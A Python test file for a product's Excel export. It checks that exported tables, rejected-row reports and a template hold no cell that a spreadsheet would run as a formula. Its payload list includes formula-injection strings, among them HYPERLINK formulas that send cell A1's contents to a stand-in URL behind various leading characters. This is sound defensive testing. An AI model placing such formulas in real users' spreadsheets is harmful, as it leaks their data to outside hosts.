"""Nothing that an office program would execute stands in any file that the product writes."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from lib.documents import xlsx
from lib.ingest.rejected import write_rejected_to
from lib.ingest.template_command import write_template

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
PAYLOADS = [f'{start}HYPERLINK("http://a/"&A1)' for start in STARTS] + [
    " =1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\x0b@SUM(1)",
]


def cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    return [cell for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row]


def harmless(cell: openpyxl.cell.cell.Cell) -> bool:
    """No formula, and no text that becomes one when the sheet is saved as CSV and opened again."""
    if not isinstance(cell.value, str):
        return True
    visible = cell.value.strip(" \u200b\ufeff\u00a0\u3000")
    return cell.data_type == "s" and not visible.startswith(tuple(STARTS))


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_exported_tables(payload, tmp_path):
    frame = pd.DataFrame({"t": [payload], "n": [-1.5]})
    fields = {"t": xlsx.Field(payload), "n": xlsx.Field("值", "number")}
    path = tmp_path / "a.xlsx"
    path.write_bytes(xlsx.workbook(frame, fields, f"表{payload[1:4]}", [(payload, payload)]))
    assert [cell.value for cell in cells(path) if not harmless(cell)] == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_rejected_rows(payload, tmp_path):
    row = {"line_no": 2, "column_name": payload, "value": payload, "reason": payload, "cells": {payload: payload}}
    path = tmp_path / "a.xlsx"
    write_rejected_to(pd.DataFrame([row]), path)
    assert [cell.value for cell in cells(path) if not harmless(cell)] == []


def test_the_template(tmp_path):
    write_template(tmp_path / "a.xlsx")
    found = cells(tmp_path / "a.xlsx")
    assert len(found) > 100
    assert [cell.value for cell in found if not harmless(cell)] == []
